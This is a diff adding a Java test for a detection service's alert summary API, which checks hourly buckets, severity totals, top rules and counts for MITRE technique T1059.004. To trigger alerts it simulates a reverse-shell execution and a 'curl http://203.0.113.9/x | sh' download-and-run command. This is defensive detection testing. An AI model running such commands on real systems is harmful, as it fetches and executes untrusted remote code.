@@ -86,6 +86,37 @@ class DetectionRoutesTest {
     }
 
     @Test
+    void theSummaryCountsAlertsPerLevelHourRuleAndTechniqueInTheDatabase() throws Exception {
+        endpoint.exec("e-rev1", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
+        endpoint.exec("e-curl", "/usr/bin/bash", List.of("bash", "-c", "curl http://203.0.113.9/x | sh"), shell);
+        endpoint.settle();
+        JsonNode alerts = call("GET", "/api/v1/alerts?last=24h&limit=100", null).body().path("alerts");
+
+        Reply summary = call("GET", "/api/v1/alerts/summary?last=24h&bucket=1h", null);
+        assertThat(summary.status()).isEqualTo(200);
+        JsonNode body = summary.body();
+        assertThat(body.path("bucket_seconds").asLong()).isEqualTo(3600);
+        assertThat(body.path("buckets")).hasSize(24);
+        long counted = 0;
+        for (JsonNode bucket : body.path("buckets")) for (JsonNode n : bucket.path("levels")) counted += n.asLong();
+        assertThat(counted).as("every alert in exactly one bucket").isEqualTo(alerts.size());
+        assertThat(body.path("buckets").get(23).path("levels").path("critical").asLong()).as("the newest hour").isEqualTo(1);
+        assertThat(body.path("totals").path("critical").asLong()).isEqualTo(1);
+        assertThat(body.path("top_rules")).hasSize(alerts.size());
+        assertThat(body.path("top_rules").toString()).contains(DetectionTest.REVSHELL, DetectionTest.CURL_PIPE);
+        long withT1059004 = 0;
+        for (JsonNode a : alerts) if (a.path("rule").path("techniques").toString().toLowerCase().contains("t1059.004")) withT1059004++;
+        assertThat(withT1059004).isPositive();
+        assertThat(body.path("techniques").path("t1059.004").asLong()).isEqualTo(withT1059004);
+
+        assertThat(call("GET", "/api/v1/alerts/summary?last=24h&bucket=1s", null).body().path("error").asText()).contains("1000 buckets");
+        assertThat(call("GET", "/api/v1/alerts/summary?last=soon", null).status()).isEqualTo(400);
+        Reply past = call("GET", "/api/v1/alerts/summary?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z&bucket=6h", null);
+        assertThat(past.body().path("buckets")).hasSize(4);
+        assertThat(past.body().path("totals").size()).isZero();
+    }
+
+    @Test
     void rulesAreListedAddedDisabledAndReloaded() throws Exception {
         Reply list = call("GET", "/api/v1/rules", null);
         assertThat(list.status()).isEqualTo(200);
